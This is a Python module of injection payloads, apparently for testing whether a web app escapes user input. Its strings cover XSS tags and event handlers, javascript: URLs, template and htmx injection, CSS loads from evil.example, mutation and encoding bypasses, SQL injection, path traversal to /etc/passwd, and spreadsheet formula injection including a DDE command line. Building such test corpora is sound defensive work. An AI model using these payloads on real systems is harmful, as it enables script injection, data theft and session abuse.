"""What people put into fields who want a script to run, a formula to be counted, or a page to break.

Ours, each after a known way. Whatever runs calls ``pwn(n)``; markup that comes alive has the attribute
``data-pwn``. A payload's number is its place in the list.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>pwn({n})</script>",
    '"><script>pwn({n})</script>',
    "'><script>pwn({n})</script>",
    "</script><script>pwn({n})</script>",
    "</textarea><script>pwn({n})</script>",
    "</title><script>pwn({n})</script>",
    "--><script>pwn({n})</script>",
    "]]><script>pwn({n})</script>",
    "<scr<script>ipt>pwn({n})</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>",
    "<script type=module>pwn({n})</script>",
    "<script>import('//evil.example/{n}.js')</script>",
)
HANDLERS = (
    "<img data-pwn src=x onerror=pwn({n})>",
    '"><img data-pwn src=x onerror=pwn({n})>',
    "<img data-pwn src=//evil.example/{n}.png>",
    "<svg data-pwn onload=pwn({n})>",
    "<svg><script>pwn({n})</script></svg>",
    "<svg><animate data-pwn onbegin=pwn({n}) attributeName=x dur=1s>",
    "<svg><use data-pwn href='data:image/svg+xml,<svg id=x onload=pwn({n})/>#x'/></svg>",
    "<body data-pwn onload=pwn({n})>",
    "<input data-pwn autofocus onfocus=pwn({n})>",
    "<details data-pwn open ontoggle=pwn({n})>",
    "<video data-pwn><source onerror=pwn({n})></video>",
    "<marquee data-pwn onstart=pwn({n})>",
    "<iframe data-pwn srcdoc='<script>parent.pwn({n})</script>'></iframe>",
    "<iframe data-pwn src=javascript:parent.pwn({n})></iframe>",
    "<object data-pwn data=//evil.example/{n}></object>",
    "<embed data-pwn src=//evil.example/{n}>",
    '" autofocus data-pwn onfocus="pwn({n})',
    "' autofocus data-pwn onfocus='pwn({n})",
    '" data-pwn style="animation-name:x" onanimationstart="pwn({n})',
    "` data-pwn onmouseover=pwn({n}) `",
)
ADDRESSES = (
    "javascript:pwn({n})",
    "JaVaScRiPt:pwn({n})",
    "java\tscript:pwn({n})",
    "data:text/html,<script>parent.pwn({n})</script>",
    "//evil.example/{n}",
    "https://evil.example/{n}",
    "<a data-pwn href=javascript:pwn({n})>x</a>",
    "<base data-pwn href=//evil.example/{n}/>",
    "<meta data-pwn http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link data-pwn rel=stylesheet href=//evil.example/{n}.css>",
    "<form data-pwn action=//evil.example/{n}><button>x</button></form>",
    "<math><mtext><a data-pwn xlink:href=javascript:pwn({n})>x</a></mtext></math>",
)
FRAMEWORKS = (
    "{{{{7*{n}}}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
    "${{7*{n}}}",
    "#{{7*{n}}}",
    "<%= 7*{n} %>",
    "<div data-pwn hx-get=//evil.example/{n} hx-trigger=load></div>",
    "<div data-pwn data-hx-get=/office hx-trigger=load></div>",
    "<div data-pwn hx-on:load=pwn({n})></div>",
    "<button data-pwn hx-post=/accounts/logout hx-trigger=load>x</button>",
    "<div data-pwn hx-vals='js:{{x:pwn({n})}}' hx-get=/ hx-trigger=load></div>",
    "<hx-partial data-pwn hx-target=body>{n}</hx-partial>",
)
STYLES = (
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "</style><style>@import '//evil.example/{n}.css'</style>",
    '" data-pwn style="background:url(//evil.example/{n})',
    "<p data-pwn style=position:fixed;inset:0>{n}</p>",
    "expression(pwn({n}))",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img data-pwn src=x onerror=pwn({n})>'>",
    "<math><mtext><table><mglyph><style><img data-pwn src=x onerror=pwn({n})>",
    "<svg></p><style><a id='</style><img data-pwn src=x onerror=pwn({n})>'>",
    "<listing>&lt;img data-pwn src=x onerror=pwn({n})&gt;</listing>",
    "<template><script>pwn({n})</script></template>",
    "<select><template><img data-pwn src=x onerror=pwn({n})></template></select>",
    "<!--><img data-pwn src=x onerror=pwn({n})>-->",
    "<x><!--<x foo='--><img data-pwn src=x onerror=pwn({n})>'>",
)
ENCODINGS = (
    "&lt;script&gt;pwn({n})&lt;/script&gt;",
    "&#60;img data-pwn src=x onerror=pwn({n})&#62;",
    "&amp;lt;script&amp;gt;pwn({n})",
    "%3Cscript%3Epwn({n})%3C/script%3E",
    "\\u003cscript\\u003epwn({n})\\u003c/script\\u003e",
    "\\x3cscript\\x3epwn({n})",
    "+ADw-script+AD4-pwn({n})+ADw-/script+AD4-",
    "＜script＞pwn({n})＜/script＞",
    "';pwn({n});//",
    '";pwn({n});//',
    "\\';pwn({n});//",
    "</script >pwn({n})",
)
WORDS = (
    "ab\u202ecba{n}",
    "a\u200bb\u200cc\u200d{n}",
    "\u2066{n}\u2069",
    "e\u0302\u0301\u0323{n}",
    "ﷺ{n}",
    "x" * 120 + "{n}",
    "Nguyễn Thị {n}' OR '1'='1",
    "../../../etc/passwd{n}",
    "👩‍👩‍👧‍👦{n}",
)
#: Only the beginning of a cell makes a formula.
FORMULAS = (
    "=1+{n}",
    '=HYPERLINK("http://evil.example/{n}","x")',
    "=cmd|' /C calc'!A{n}",
    "+1+{n}",
    "-1-{n}",
    "@SUM(1,{n})",
    "\t=1+{n}",
    "\r=1+{n}",
    "＝1+{n}",
    "|1+{n}",
    "%0A=1+{n}",
)
KINDS = (SCRIPTS, HANDLERS, ADDRESSES, FRAMEWORKS, STYLES, MUTATIONS, ENCODINGS, WORDS, FORMULAS)
PAYLOADS = tuple(text.format(n=number) for number, text in enumerate(one for kind in KINDS for one in kind))
